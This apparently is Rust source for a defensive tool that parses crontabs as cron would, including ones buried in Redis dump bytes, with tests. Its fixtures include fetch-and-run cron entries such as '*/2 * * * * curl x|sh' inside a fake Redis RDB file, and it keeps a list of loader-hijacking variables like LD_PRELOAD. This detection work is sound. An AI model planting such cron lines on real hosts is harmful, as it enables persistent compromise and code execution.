//! Reads crontabs as cron does, from any bytes (crontab(5), crond of cronie, of Debian and of busybox).
//!
//! What Redis or a broken tool wrote around the lines is passed over; a line that no cron would take is no entry.

use deminer_worker::text::{HostBytes, HostPath};

/// Whether entries have a field for the user.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum UserField {
    /// `/etc/crontab` and `/etc/cron.d`.
    Present,
    /// A crontab of the spool: the file's name is the user.
    Absent,
}

/// One entry.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CronLine {
    /// Its line, from 1.
    pub number: u32,
    /// The line's bytes without the line feed.
    pub line: HostBytes,
    /// The five fields, or `@reboot` and its like.
    pub schedule: HostBytes,
    /// The user field; empty where there is none.
    pub user: HostBytes,
    /// The command up to the first bare `%`; `\%` is `%`. A carriage return at its end is left out.
    pub command: HostBytes,
    /// What the command reads: behind the first bare `%`, each further one a line feed.
    pub input: HostBytes,
    /// The last value of each setting above it that changes what runs, whole lines, in the order of their names below.
    pub settings: Vec<HostBytes>,
    /// `HOME` as a setting above it names it.
    pub home: Option<HostPath>,
}

/// A crontab, read.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Crontab {
    /// In the file's order.
    pub lines: Vec<CronLine>,
    /// Whether there are more than [`LINES`].
    pub more: bool,
}

/// The most entries of one file.
pub const LINES: usize = 2_000;

/// Settings that change which program runs or what is loaded into it.
const SETTINGS: [&[u8]; 15] = [
    b"SHELL",
    b"PATH",
    b"HOME",
    b"BASH_ENV",
    b"ENV",
    b"LD_PRELOAD",
    b"LD_LIBRARY_PATH",
    b"LD_AUDIT",
    b"PYTHONPATH",
    b"PYTHONSTARTUP",
    b"PERL5LIB",
    b"PERL5OPT",
    b"RUBYOPT",
    b"NODE_OPTIONS",
    b"CRON_TZ",
];

/// Whether a setting of this name changes which program runs or what is loaded into it.
pub(crate) fn is_changing(name: &[u8]) -> bool {
    SETTINGS.contains(&name)
}

/// Longer settings are no settings to cron (`MAX_ENVSTR`).
const SETTING_BYTES: usize = 1_000;

/// Reads all entries.
pub fn parse_crontab(content: &[u8], users: UserField) -> Crontab {
    let mut crontab = Crontab::default();
    let mut settings: [Option<Vec<u8>>; SETTINGS.len()] = Default::default();
    let mut home = None;
    for (at, line) in content.split(|b| *b == b'\n').enumerate() {
        // Cron's strings end at a NUL; those that stand before the first letter are a file's torn start.
        let text = trim_start(line);
        let text = text.split(|b| *b == 0).next().unwrap_or_default();
        if text.is_empty() || text[0] == b'#' {
            continue;
        }
        if let Some((name, value)) = setting(text) {
            if let Some(place) = SETTINGS.iter().position(|known| *known == name)
                && text.len() <= SETTING_BYTES
            {
                settings[place] = Some(text.strip_suffix(b"\r").unwrap_or(text).to_vec());
                if name == b"HOME" && value.first() == Some(&b'/') {
                    home = Some(HostPath::new(value));
                }
            }
            continue;
        }
        let Some((schedule, user, rest)) = entry(text, users) else {
            continue;
        };
        if crontab.lines.len() == LINES {
            crontab.more = true;
            break;
        }
        let (command, input) = at_percent(rest.strip_suffix(b"\r").unwrap_or(rest));
        crontab.lines.push(CronLine {
            number: u32::try_from(at + 1).unwrap_or(u32::MAX),
            line: HostBytes::new(line),
            schedule: HostBytes::new(schedule),
            user: HostBytes::new(user),
            command: HostBytes::new(command),
            input: HostBytes::new(input),
            settings: settings
                .iter()
                .flatten()
                .map(|line| HostBytes::new(&line[..]))
                .collect(),
            home: home.clone(),
        });
    }
    crontab
}

fn is_blank(byte: u8) -> bool {
    matches!(byte, b' ' | b'\t')
}

fn trim_start(text: &[u8]) -> &[u8] {
    let blanks = text.iter().take_while(|b| is_blank(**b) || **b == 0).count();
    &text[blanks..]
}

/// `NAME=value`, blanks around `=` and quotes around either allowed.
pub(crate) fn setting(text: &[u8]) -> Option<(&[u8], &[u8])> {
    let at = text.iter().position(|b| *b == b'=')?;
    let name = unquoted(&text[..at]);
    let named = |b: &u8| b.is_ascii_alphanumeric() || *b == b'_';
    if name.is_empty() || !name.iter().all(named) || name[0].is_ascii_digit() {
        return None;
    }
    Some((name, unquoted(&text[at + 1..])))
}

fn unquoted(text: &[u8]) -> &[u8] {
    let text = text.trim_ascii();
    match text {
        [open @ (b'"' | b'\''), inner @ .., close] if open == close => inner,
        _ => text,
    }
}

/// The first word and what stands behind the blanks that follow it.
fn word(text: &[u8]) -> (&[u8], &[u8]) {
    let end = text.iter().position(|b| is_blank(*b)).unwrap_or(text.len());
    let rest = &text[end..];
    let blanks = rest.iter().take_while(|b| is_blank(**b)).count();
    (&text[..end], &rest[blanks..])
}

/// Schedule, user, and the rest; `None` where no cron would take the line.
fn entry(text: &[u8], users: UserField) -> Option<(&[u8], &[u8], &[u8])> {
    // A `-` before the first field asks cron not to log.
    let text = text.strip_prefix(b"-").unwrap_or(text);
    let mut rest = text;
    let schedule = if text[..].first() == Some(&b'@') {
        let (nick, behind) = word(text);
        if nick.len() < 2 || !nick[1..].iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_') {
            return None;
        }
        rest = behind;
        nick
    } else {
        let mut end = 0;
        for _ in 0..5 {
            let (field, behind) = word(rest);
            if !is_time_field(field) {
                return None;
            }
            end = text.len() - rest.len() + field.len();
            rest = behind;
        }
        &text[..end]
    };
    let mut user = &b""[..];
    if users == UserField::Present {
        (user, rest) = word(rest);
    }
    (!rest.is_empty() && rest != b"\r").then_some((schedule, user, rest))
}

/// `*/5`, `1-5,30`, `mon`, `~`: lists of numbers and names, with ranges and steps.
fn is_time_field(field: &[u8]) -> bool {
    const NAMES: &[u8] = b"sun mon tue wed thu fri sat jan feb mar apr may jun jul aug sep oct nov dec";
    let allowed = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'*' | b'/' | b',' | b'-' | b'~');
    let mut names = field
        .split(|b| !b.is_ascii_alphabetic())
        .filter(|name| !name.is_empty());
    let named = |name: &[u8]| {
        let name = name.to_ascii_lowercase();
        NAMES.chunks(4).any(|known| name.starts_with(&known[..3])) && name.len() <= 9
    };
    !field.is_empty() && field.len() <= 512 && field.iter().all(allowed) && names.all(named)
}

fn at_percent(rest: &[u8]) -> (Vec<u8>, Vec<u8>) {
    let mut parts = [Vec::new(), Vec::new()];
    let mut part = 0;
    let mut bytes = rest.iter().copied().peekable();
    while let Some(byte) = bytes.next() {
        match byte {
            b'\\' if bytes.peek() == Some(&b'%') => {
                parts[part].push(b'%');
                bytes.next();
            }
            b'%' if part == 0 => part = 1,
            b'%' => parts[part].push(b'\n'),
            byte => parts[part].push(byte),
        }
    }
    let [command, input] = parts;
    (command, input)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn shown(content: &[u8], users: UserField) -> Vec<String> {
        parse_crontab(content, users)
            .lines
            .iter()
            .map(|line| {
                let mut text = format!("{}: {} | {} | {}", line.number, line.schedule, line.user, line.command);
                if !line.input.is_empty() {
                    text += &format!(" % {}", line.input);
                }
                if !line.settings.is_empty() {
                    text += &format!(
                        " <{}>",
                        line.settings
                            .iter()
                            .map(ToString::to_string)
                            .collect::<Vec<_>>()
                            .join("; ")
                    );
                }
                text
            })
            .collect()
    }

    #[test]
    fn crontabs_of_the_spool() {
        let rows: [(&str, &[u8], &[&str]); 19] = [
            ("plain", b"*/5 * * * * /tmp/x -a\n", &["1: */5 * * * * |  | /tmp/x -a"]),
            ("no line feed at the end", b"0 3 * * mon-fri a", &["1: 0 3 * * mon-fri |  | a"]),
            ("blanks", b" \t* * *\t*  * \t a b \n", &["1: * * *\\x09*  * |  | a b "]),
            ("comments and empty lines", b"# a\n\n  # b\n* * * * * c\n", &["4: * * * * * |  | c"]),
            ("by name", b"@reboot /tmp/x\n@every_minute y\n", &["1: @reboot |  | /tmp/x", "2: @every_minute |  | y"]),
            ("carriage returns", b"* * * * * /tmp/x\r\n\r\n", &["1: * * * * * |  | /tmp/x"]),
            ("settings", b"PATH = /tmp:/bin\nMAILTO=a\n* * * * * x\nPATH=/bin\nSHELL='/tmp/sh'\n@daily y\n",
                &["3: * * * * * |  | x <PATH = /tmp:/bin>", "6: @daily |  | y <SHELL='/tmp/sh'; PATH=/bin>"]),
            ("percent", b"* * * * * date +\\%F%a%b\n", &["1: * * * * * |  | date +%F % a\\x0ab"]),
            ("a shell fed by percent", b"* * * * * sh%curl x|sh\n", &["1: * * * * * |  | sh % curl x|sh"]),
            ("not logged", b"-*/15 * * * * a\n", &["1: */15 * * * * |  | a"]),
            ("random times", b"0~59 * * * * a\n", &["1: 0~59 * * * * |  | a"]),
            ("a setting of the command", b"* * * * * A=b /tmp/x\n", &["1: * * * * * |  | A=b /tmp/x"]),
            ("left by Redis", b"REDIS0009\xfa\tredis-ver\x055.0.7\xfe\x00\x00\x04cron\xc3\n\n\n*/2 * * * * curl x|sh\n\n\n\xff\x9e\x1f",
                &["4: */2 * * * * |  | curl x|sh"]),
            ("a torn start", b"\0\0\0* * * * * a\n", &["1: * * * * * |  | a"]),
            ("ends at a NUL", b"* * * * * a\0b\n", &["1: * * * * * |  | a"]),
            ("too few fields", b"* * * * a\n", &[]),
            ("no command", b"* * * * *\n* * * * * \r\n@daily\n", &[]),
            ("prose", b"this is no crontab at all, not at all\n", &[]),
            ("nothing", b"", &[]),
        ];
        for (name, content, expected) in rows {
            assert_eq!(shown(content, UserField::Absent), expected, "{name}");
        }
    }

    #[test]
    fn crontabs_with_users() {
        let rows: [(&str, &[u8], &[&str]); 4] = [
            (
                "plain",
                b"17 * * * * root cd / && x\n",
                &["1: 17 * * * * | root | cd / && x"],
            ),
            (
                "by name",
                b"@reboot  deploy  /tmp/x\n",
                &["1: @reboot | deploy | /tmp/x"],
            ),
            (
                "not logged",
                b"-*/15 * * * * root test -x y\n",
                &["1: */15 * * * * | root | test -x y"],
            ),
            ("user only", b"* * * * * root\n", &[]),
        ];
        for (name, content, expected) in rows {
            assert_eq!(shown(content, UserField::Present), expected, "{name}");
        }
    }

    #[test]
    fn many_lines_are_cut_and_say_so() {
        let crontab = parse_crontab(&b"* * * * * a\n".repeat(LINES + 1), UserField::Absent);
        assert!(crontab.more);
        assert_eq!(crontab.lines.len(), LINES);
    }

    proptest! {
        #[test]
        fn any_bytes_give_lines_of_the_file(bytes: Vec<u8>) {
            for users in [UserField::Present, UserField::Absent] {
                let all: Vec<&[u8]> = bytes.split(|b| *b == b'\n').collect();
                for line in parse_crontab(&bytes, users).lines {
                    prop_assert_eq!(line.line.as_bytes(), all[line.number as usize - 1]);
                }
            }
        }

        #[test]
        fn an_entry_is_found_among_junk(before: Vec<u8>, after: Vec<u8>) {
            let content = [&before[..], b"\n*/3 * * * * /tmp/x\n", &after[..]].concat();
            let found = parse_crontab(&content, UserField::Absent).lines;
            prop_assert!(found.iter().any(|line| line.command == HostBytes::from("/tmp/x")));
        }
    }
}
